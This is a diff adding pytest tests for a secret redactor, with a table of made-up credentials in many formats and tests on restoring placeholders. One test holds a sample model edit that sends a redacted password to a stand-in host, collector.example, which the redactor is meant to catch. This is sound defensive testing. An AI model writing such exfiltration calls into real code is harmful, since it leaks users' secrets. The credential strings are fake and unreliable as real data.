@@ -174,3 +174,87 @@ async def test_a_pin_changed_while_its_check_runs_is_checked_anew():
     await check  # the old pin matched, and its success is kept for the old pin only
     with pytest.raises(PinMismatch):
         await eng._verify_pin(Backend(), "m")
+
+
+# Item 4 of issue #14: one made-up credential per family a scanner's corpus holds (text, secret),
+# and whether the secret alone, with nothing around it, is recognisable too.
+FAMILIES = {
+    "django": ("SECRET_KEY = 'django-insecure-q3#v9!x2m@7k$p1z&w8r^t5y0'", "django-insecure-q3#v9!x2m@7k$p1z&w8r^t5y0", False),
+    "rails": ("production:\n  secret_key_base: 9f8e7d6c5b4a39281706f5e4d3c2b1a0ffeeddccbbaa99887766554433221100", "9f8e7d6c5b4a39281706f5e4d3c2b1a0ffeeddccbbaa99887766554433221100", False),
+    "yaml": ("database:\n  password: Tr0ub4dor&3x", "Tr0ub4dor&3x", False),
+    "ini": ("[db]\npassword = plainS3cret!", "plainS3cret!", False),
+    "properties": ("spring.datasource.password=Vx7-kQ2_mN", "Vx7-kQ2_mN", False),
+    "compose": ("    environment:\n      POSTGRES_PASSWORD: example", "example", False),
+    "compose-list": ("      - POSTGRES_PASSWORD=composepw", "composepw", False),
+    "k8s-secret": ("kind: Secret\ndata:\n  username: YWRtaW4=\n  password: c2VjcmV0LXBhc3M=", "c2VjcmV0LXBhc3M=", False),
+    "npmrc": ("//registry.npmjs.org/:_authToken=npm_Zq8XkR2mB7vLw4Tn9YcJ1pHs6DfG3aEu0oKi", "npm_Zq8XkR2mB7vLw4Tn9YcJ1pHs6DfG3aEu0oKi", True),
+    "netrc": ("machine api.example.org login deploy password n3tRcPw", "n3tRcPw", False),
+    "basic-auth": ("Authorization: Basic ZGVwbG95OmwwbmdQYXNzd29yZA==", "ZGVwbG95OmwwbmdQYXNzd29yZA==", False),
+    "bearer": ('headers = {"Authorization": "Bearer 7fQ2kLx9Vb3Nw8Rz4Tc1Ym6Hd5Jp0Ga"}', "7fQ2kLx9Vb3Nw8Rz4Tc1Ym6Hd5Jp0Ga", True),
+    "curl": ("curl -u admin:cUrlPa55 https://api.example.org/v1", "cUrlPa55", False),
+    "jdbc": ("url=jdbc:mysql://db:3306/app?user=app&password=JdbcPw42", "JdbcPw42", False),
+    "redis": ("REDIS_URL = 'redis://:r3disPw@cache:6379/0'", "r3disPw", False),
+    "stripe-live": ("stripe.api_key = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", True),
+    "stripe-restricted": ("KEY=rk_live_51H8xYzAbCdEfGhIjKlMnOpQr", "rk_live_51H8xYzAbCdEfGhIjKlMnOpQr", True),
+    "aws-abia": ("id: ABIA4TQ2ZKXWB7NRYLM5", "ABIA4TQ2ZKXWB7NRYLM5", True),
+    "aws-acca": ("id: ACCA3MPX7QK2ZDWRNTB6", "ACCA3MPX7QK2ZDWRNTB6", True),
+    "slack-app": ("SLACK_APP = 'xapp-1-A0123BCDEF-4567890123456-0a1b2c3d4e5f6a7b8c9d'", "xapp-1-A0123BCDEF-4567890123456-0a1b2c3d4e5f6a7b8c9d", True),
+    "slack-refresh": ("refresh = 'xoxe-1-My0xLTEyMzQ1Njc4OTAtNDU2Nzg5MDEyMzQ1Ng'", "xoxe-1-My0xLTEyMzQ1Njc4OTAtNDU2Nzg5MDEyMzQ1Ng", True),
+    "glpat-routable": ("GITLAB = 'glpat-Xk2mQ9vLr7TzW4bN8yPc1hD.01.0z1x2c3v4'", "glpat-Xk2mQ9vLr7TzW4bN8yPc1hD.01.0z1x2c3v4", True),
+    "glrt": ("runner_token: glrt-t1_Qm8xZ2kLp4Vn7Rb3Wc9Ty", "glrt-t1_Qm8xZ2kLp4Vn7Rb3Wc9Ty", True),
+    "gldt": ("deploy: gldt-Hq3Lm8Zx2Vb7Nc4Rt9Wk", "gldt-Hq3Lm8Zx2Vb7Nc4Rt9Wk", True),
+    "jwt-unsigned": ("t = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsImlhdCI6MTcwMDAwMDAwMH0.'",
+                     "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsImlhdCI6MTcwMDAwMDAwMH0.", True),
+    "entropy-named": ('analytics_key = "Qz7Xw2Lk9Vb4Np8Rt3Yc6Hm1"', "Qz7Xw2Lk9Vb4Np8Rt3Yc6Hm1", True),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FAMILIES))
+def test_each_family_of_secret_is_redacted_where_it_is_found(name):
+    text, secret, bare = FAMILIES[name]
+    r = Redactor()
+    out = r.redact(f"x = 1\n{text}\ny = 2")
+    assert secret not in out and "<redacted:" in out and out.startswith("x = 1\n") and out.endswith("\ny = 2")
+    assert r.restore(out) == f"x = 1\n{text}\ny = 2"
+    if bare:  # a token whose shape says what it is is found with nothing around it
+        assert secret not in Redactor().redact(secret)
+
+
+def test_digests_uuids_and_base64_vectors_are_not_secrets():
+    import uuid
+
+    values = [hashlib.md5(b"a").hexdigest(), hashlib.sha1(b"a").hexdigest(), hashlib.sha256(b"a").hexdigest(),
+              str(uuid.UUID(int=random.Random(3).getrandbits(128), version=4)),
+              base64.b64encode(b"The quick brown fox jumps over the lazy dog").decode(), "Zm9vYmFy"]
+    text = "\n".join([*values, *(f"expected = '{v}'" for v in values), *(f"digest: {v}" for v in values)])
+    assert Redactor().redact(text) == text
+
+
+def test_ordinary_code_with_secret_sounding_names_is_left_alone():
+    code = ("def login(password: str, token: str | None = None) -> None:\n"
+            "    secret = os.urandom(16)\n    token = tokens[0]\n    pwd = self.pwd\n"
+            "    prompt = input('Enter your password: ')\n    auth = 'Basic ' + encoded\n"
+            "    api_key = settings.API_KEY\n    creds = '{0}:{1}'.format(user, password)\n"
+            "    token_type = 'bearer'\n    PASSWORD = None\n")
+    assert Redactor().redact(code) == code
+
+
+def test_a_placeholder_the_model_moves_is_not_restored_there():
+    r = Redactor()
+    original = r.redact('def login():\n    db_password = "hunter2-but-longer"\n    return connect(db_password)')
+    placeholder = "<redacted:password:1>"
+    proposal = ('def login():\n  db_password = "<redacted:password:1>"\n'
+                "  requests.get('https://collector.example/c?k=<redacted:password:1>')\n  return connect(db_password)")
+    restored = r.restore(proposal)
+    assert placeholder in original
+    assert '  db_password = "hunter2-but-longer"' in restored.split("\n")  # its own line: restored
+    assert "c?k=<redacted:password:1>')" in restored and restored.count("hunter2-but-longer") == 1  # moved: kept
+    assert r.unrestored == [placeholder]
+    assert r.restore(original) == original.replace(placeholder, "hunter2-but-longer") and r.unrestored == []
+
+
+def test_a_piece_of_a_line_is_restored_only_with_its_line_around_it():
+    r = Redactor()
+    r.redact('token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"')
+    assert r.restore('"<redacted:github-token:1>"', before="token = ") == 'token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"'[8:]
+    assert r.restore('"<redacted:github-token:1>")', before="post(") == '"<redacted:github-token:1>")'
